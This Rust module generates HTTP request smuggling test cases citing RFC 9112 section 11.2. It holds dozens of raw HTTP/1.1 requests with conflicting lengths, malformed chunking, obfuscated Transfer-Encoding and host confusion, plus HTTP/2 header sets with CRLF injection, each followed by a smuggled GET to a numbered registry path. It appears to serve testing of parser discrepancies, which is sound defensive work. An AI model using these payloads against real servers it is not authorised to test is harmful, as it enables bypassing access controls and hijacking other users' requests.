//! Requests in which two readers, one behind the other, may see different
//! requests: RFC 9112, section 11.2, and what has been found since.

/// What is to be taken for a body, or for nothing, by one of the two.
const SMUGGLED: &str = "GET PATH HTTP/1.1\r\nHost: HOST\r\nConnection: close\r\n\r\n";

/// Each is followed by another request, or hides it.
const HTTP1: &[&str] = &[
    // Two lengths.
    "POST /v2/a/blobs/uploads/ HTTP/1.1\r\nHost: HOST\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "POST /v2/a/blobs/uploads/ HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding: chunked\r\nContent-Length: 200\r\n\r\n0\r\n\r\n",
    "POST /v2/a/blobs/uploads/ HTTP/1.1\r\nHost: HOST\r\nContent-Length: 0\r\nContent-Length: 5\r\n\r\n",
    "POST /v2/a/blobs/uploads/ HTTP/1.1\r\nHost: HOST\r\nContent-Length: 0\r\nContent-Length: 0\r\n\r\n",
    // A length that is none, or not to everybody.
    "POST /v2/a/blobs/uploads/ HTTP/1.1\r\nHost: HOST\r\nContent-Length: +5\r\n\r\nabcde",
    "POST /v2/a/blobs/uploads/ HTTP/1.1\r\nHost: HOST\r\nContent-Length: -1\r\n\r\n",
    "POST /v2/a/blobs/uploads/ HTTP/1.1\r\nHost: HOST\r\nContent-Length: 0x5\r\n\r\nabcde",
    "POST /v2/a/blobs/uploads/ HTTP/1.1\r\nHost: HOST\r\nContent-Length: 5, 5x\r\n\r\nabcde",
    "POST /v2/a/blobs/uploads/ HTTP/1.1\r\nHost: HOST\r\nContent-Length: 18446744073709551616\r\n\r\n",
    "POST /v2/a/blobs/uploads/ HTTP/1.1\r\nHost: HOST\r\nContent-Length:\r\n\r\n",
    "POST /v2/a/blobs/uploads/ HTTP/1.1\r\nHost: HOST\r\nContent-Length : 5\r\n\r\nabcde",
    "POST /v2/a/blobs/uploads/ HTTP/1.1\r\nHost: HOST\r\nContent_Length: 5\r\nContent-Length: 0, 5\r\n\r\n",
    // Codings that not everybody knows, or spells so.
    "POST /v2/a/blobs/uploads/ HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
    "POST /v2/a/blobs/uploads/ HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding: identity, chunked\r\n\r\n0\r\n\r\n",
    "POST /v2/a/blobs/uploads/ HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n\r\n0\r\n\r\n",
    "POST /v2/a/blobs/uploads/ HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    "POST /v2/a/blobs/uploads/ HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\n",
    "POST /v2/a/blobs/uploads/ HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
    "POST /v2/a/blobs/uploads/ HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n",
    "POST /v2/a/blobs/uploads/ HTTP/1.1\r\nHost: HOST\r\nX: a\r\nTransfer-Encoding\r\n: chunked\r\n\r\n0\r\n\r\n",
    // Chunks.
    "POST /v2/a/blobs/uploads/ HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding: chunked\r\n\r\n0\n\n",
    "POST /v2/a/blobs/uploads/ HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n",
    "POST /v2/a/blobs/uploads/ HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding: chunked\r\n\r\n-1\r\n\r\n",
    "POST /v2/a/blobs/uploads/ HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding: chunked\r\n\r\n10000000000000000\r\n\r\n",
    "POST /v2/a/blobs/uploads/ HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding: chunked\r\n\r\n1\r\naXX0\r\n\r\n",
    "POST /v2/a/blobs/uploads/ HTTP/1.1\r\nHost: HOST\r\nTransfer-Encoding: chunked\r\n\r\n1;a=\n\r\na\r\n0\r\n\r\n",
    // Lines that are none, or more than one.
    "GET /v2/ HTTP/1.1\nHost: HOST\n\n",
    "GET /v2/ HTTP/1.1\r\nHost: HOST\nContent-Length: 200\r\n\r\n",
    "GET /v2/ HTTP/1.1\r\nHost: HOST\r\nX: a\n\n",
    "GET /v2/ HTTP/1.1\r\nHost: HOST\r\nX: a\rContent-Length: 200\r\n\r\n",
    "GET /v2/ HTTP/1.1\r\nHost: HOST\r\nX: a\r\n b\r\n\r\n",
    "GET /v2/ HTTP/1.1\r\nHost: HOST\r\n X: a\r\n\r\n",
    "GET /v2/ HTTP/1.1\r\nHost: HOST\r\nX\0Y: a\r\n\r\n",
    "GET /v2/ HTTP/1.1\r\nHost: HOST\r\nX: a\0\r\n\r\n",
    "GET /v2/ HTTP/1.1\r\nHost: HOST\r\nno colon\r\n\r\n",
    "GET  /v2/ HTTP/1.1\r\nHost: HOST\r\n\r\n",
    "GET /v2/ HTTP/1.1 \r\nHost: HOST\r\n\r\n",
    "GET\t/v2/\tHTTP/1.1\r\nHost: HOST\r\n\r\n",
    "GET /v2/\r\nHost: HOST\r\n\r\n",
    // Whom it is for.
    "GET http://HOST/v2/ HTTP/1.1\r\nHost: elsewhere\r\n\r\n",
    "GET https://elsewhere/v2/ HTTP/1.1\r\nHost: HOST\r\n\r\n",
    "GET elsewhere/v2/ HTTP/1.1\r\nHost: HOST\r\n\r\n",
    "GET @elsewhere/v2/ HTTP/1.1\r\nHost: HOST\r\n\r\n",
    "CONNECT elsewhere:443 HTTP/1.1\r\nHost: HOST\r\n\r\n",
    "GET /v2/ HTTP/1.1\r\n\r\n",
    "GET /v2/ HTTP/1.1\r\nHost: HOST\r\nHost: elsewhere\r\n\r\n",
    "GET /v2/ HTTP/1.1\r\nHost: user@HOST\r\n\r\n",
    "GET /v2/ HTTP/1.1\r\nHost: HOST/v2\r\n\r\n",
    "GET /v2/ HTTP/9.9\r\nHost: HOST\r\n\r\n",
    "GET /v2/ HTTP/2.0\r\nHost: HOST\r\n\r\n",
    "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
];

/// Fields of a head of HTTP/2 and a body, where the whole may not be a request
/// of HTTP/1.1.
const HTTP2: &[(&[(&str, &str)], &str)] = &[
    (&[("host", "elsewhere")], ""),
    (&[("host", "HOST"), ("host", "elsewhere")], ""),
    (&[("transfer-encoding", "chunked")], "0\r\n\r\n"),
    (&[("content-length", "0")], ""),
    (&[("content-length", "5"), ("content-length", "0")], "abcde"),
    (&[("content-length", "+5")], "abcde"),
    (&[("connection", "transfer-encoding")], ""),
    (&[("upgrade", "h2c")], ""),
    (&[("te", "gzip")], ""),
    (&[("x", "a\r\nTransfer-Encoding: chunked")], "0\r\n\r\n"),
    (&[("x", "a\nContent-Length: 0")], ""),
    (&[("x", "a\0b")], ""),
    (&[("x\r\ncontent-length: 0\r\ny", "a")], ""),
    (&[("x: y", "a")], ""),
    (&[("content-length ", "0")], ""),
    (&[("Content-Length", "0")], ""),
    (&[(":path", "/v2/ HTTP/1.1\r\nHost: HOST\r\nContent-Length: 0\r\n\r\n")], ""),
    (&[(":path", "/v2/ HTTP/1.1")], ""),
    (&[(":path", "v2/")], ""),
    (&[(":path", "")], ""),
    (&[(":path", "/v2/"), (":path", "/v2/b/")], ""),
    (&[(":method", "GET / HTTP/1.1\r\nHost: HOST\r\nX: ")], ""),
    (&[(":method", "GET /v2/")], ""),
    (&[(":method", "CONNECT")], ""),
    (&[(":authority", "user@HOST")], ""),
    (&[(":authority", "HOST/v2")], ""),
    (&[(":authority", "")], ""),
    (&[(":scheme", "https://elsewhere/v2")], ""),
    (&[(":status", "200")], ""),
    (&[(":unknown", "a")], ""),
];

/// The path of what the attack of this number smuggles.
pub fn path(n: usize) -> String {
    format!("/v2/smuggled/{n}/tags/list")
}

/// By HTTP/1.1, each with its number.
pub fn http1(host: &str) -> impl Iterator<Item = (usize, String)> {
    HTTP1.iter().enumerate().map(move |(n, attack)| {
        let whole = format!("{attack}{}", SMUGGLED.replace("PATH", &path(n)));
        (n, whole.replace("HOST", host))
    })
}

/// By HTTP/2, each with its number: all fields, and the body.
pub fn http2(host: &str) -> impl Iterator<Item = (usize, Vec<(String, String)>, String)> {
    HTTP2.iter().enumerate().map(move |(n, (fields, body))| {
        let n = HTTP1.len() + n;
        let mut all: Vec<(String, String)> =
            [(":method", "POST"), (":scheme", "https"), (":authority", host), (":path", "/v2/a/blobs/uploads/")]
                .iter()
                .filter(|(name, _)| !fields.iter().any(|(other, _)| other == name))
                .map(|(name, value)| ((*name).to_owned(), (*value).to_owned()))
                .collect();
        let own = fields.iter().map(|(name, value)| ((*name).to_owned(), value.replace("HOST", host)));
        // Pseudo-header fields come first.
        let (pseudo, others): (Vec<_>, Vec<_>) = own.partition(|(name, _)| name.starts_with(':'));
        all.extend(pseudo);
        all.extend(others);
        let body = format!("{body}{}", SMUGGLED.replace("PATH", &path(n)).replace("HOST", host));
        (n, all, body)
    })
}
